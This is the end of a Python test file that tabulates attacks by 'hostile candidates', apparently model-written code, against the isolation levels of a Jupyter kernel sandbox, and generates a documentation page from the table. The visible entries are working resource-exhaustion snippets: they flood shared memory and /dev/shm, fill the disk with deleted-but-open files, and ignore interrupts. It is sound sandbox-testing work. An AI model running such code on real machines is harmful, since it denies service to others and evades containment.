        "libc.shmat.restype = ctypes.c_void_p; libc.shmdt.argtypes = [ctypes.c_void_p]\n"
        "for _ in range(80):\n"
        "    number = libc.shmget(0, 10**7, 0o1600)\n"
        "    if number < 0: raise OSError('refused')\n"
        "    at = libc.shmat(number, None, 0); ctypes.memset(at, 1, 10**7); libc.shmdt(at)\n"
        "time.sleep(50)",
        _at(every=_FILTER),
        seconds=60,
        alone=True,
        lasting=True,
    ),
    "shared-filler": Attack(
        "exhaustion",
        "fill shared memory",
        "for n in range(20):\n"
        "    with open(f'/dev/shm/{given[\"mark\"]}-{n}', 'wb') as file: file.write(bytes(8 * 10**6))",
        _at(mounts="its own size limit", fork_landlock=_LANDLOCK),
        alone=True,
        lasting=True,
    ),
    "disk-filler": Attack(
        "exhaustion",
        "fill the disk with many files",
        "for n in range(20):\n    with open(f'filler-{n}', 'wb') as file: file.write(bytes(7 * 10**6))\ntime.sleep(50)",
        _at(every=_WATCHED, fork_namespaces="its own size limit"),
        seconds=60,
        alone=True,
        lasting=True,
    ),
    "disk-filler-deleted": Attack(
        "exhaustion",
        "fill the disk with many files that it has deleted and keeps open",
        "files = [open(f'filler-{n}', 'wb', 0) for n in range(20)]\n"
        "for n, file in enumerate(files): os.remove(f'filler-{n}'); file.write(bytes(7 * 10**6))\ntime.sleep(50)",
        _at(every=_WATCHED, fork_namespaces="its own size limit"),
        seconds=60,
        alone=True,
        lasting=True,
    ),
    "never-ends": Attack(
        "exhaustion",
        "ignore the interrupt",
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile time.time(): pass",
        _at(every="killed afterwards"),
        seconds=1,
        alone=True,
    ),
}


def candidate(attack, given):
    """The code of an attack, given what it knows."""
    secret = SECRET.encode()
    return PRELUDE.format(given=given, halves=(secret[:8], secret[8:])) + attack.code


def page():
    """The page as Markdown."""
    parts = [_INTRODUCTION]
    for group in dict.fromkeys(attack.group for attack in ATTACKS.values()):
        rows = [attack for attack in ATTACKS.values() if attack.group == group]
        parts += [
            f"\n## {_HEADINGS[group]}\n",
            _row("a candidate tries to", *LEVELS),
            _row(*["---"] * (1 + len(LEVELS))),
        ]
        parts += [_row(attack.what, *(_cell(attack, level) for level in LEVELS)) for attack in rows]
    return "\n".join(parts) + "\n"


def _cell(attack, level):
    root, user = (attack.stopped_at(level, user=user) or "**open**" for user in (False, True))
    return root if root == user else f"{root}; user: {user}"


def _row(*cells):
    return f"| {' | '.join(cells)} |"


_HEADINGS = {
    "secrets": "Reading data of others",
    "files": "Changing files",
    "machine": "Escaping the confinement",
    "network": "Connecting to others",
    "processes": "Harming other processes",
    "exhaustion": "Exhausting resources",
}

_INTRODUCTION = """# Hostile candidates

What a malicious candidate can do at each level of isolation. Each cell has been tried by a real candidate in a
real branch: the tests fail if an attack that is listed as stopped succeeds, and also if one that is listed as open is
stopped. This page is generated from the table of the tests, `tests/integration/kernels/attacks.py`.

`rerun` starts fresh kernels, `fork` forks a running one. `bubblewrap` and `namespaces` are the full levels; a run
states which level it has, and `--isolation require` refuses to run below them. The other levels are what remains where
a machine denies namespaces (as many containers do) and, for `fork-limits`, Landlock too: they are tested with these
calls really denied. Each attack is tried as root and as an ordinary user. If that makes a difference, the cell has
both. **open** means that the attack succeeds, as seen from outside: in the log of the server, in the file, in the state
of the process; nothing that the candidate reports counts, except what it has read.

None of this is a boundary against an author who targets you: it is damage control for code that a model wrote. A branch
forked from a live kernel contains whatever is in that kernel's memory, including keys in variables. If you do not trust
the library or the model, run the whole of Jupyter in a container or a virtual machine.

One of these means can be missing at a level: the *system call filter* needs libseccomp, which nearly every Linux has.
A run without it states so in its description of the isolation; attacks that only the filter stops are then open.
*Landlock* refuses TCP from Linux 6.7 (before, the filter does), and signals and abstract UNIX sockets from 6.12. A
selected branch is forked once more, by code that is in its own memory: a candidate that takes over that code can enter
a user namespace. It finds no writable `/proc` and no control groups there (`test_confine.py`)."""


if __name__ == "__main__":
    PAGE.write_text(page())
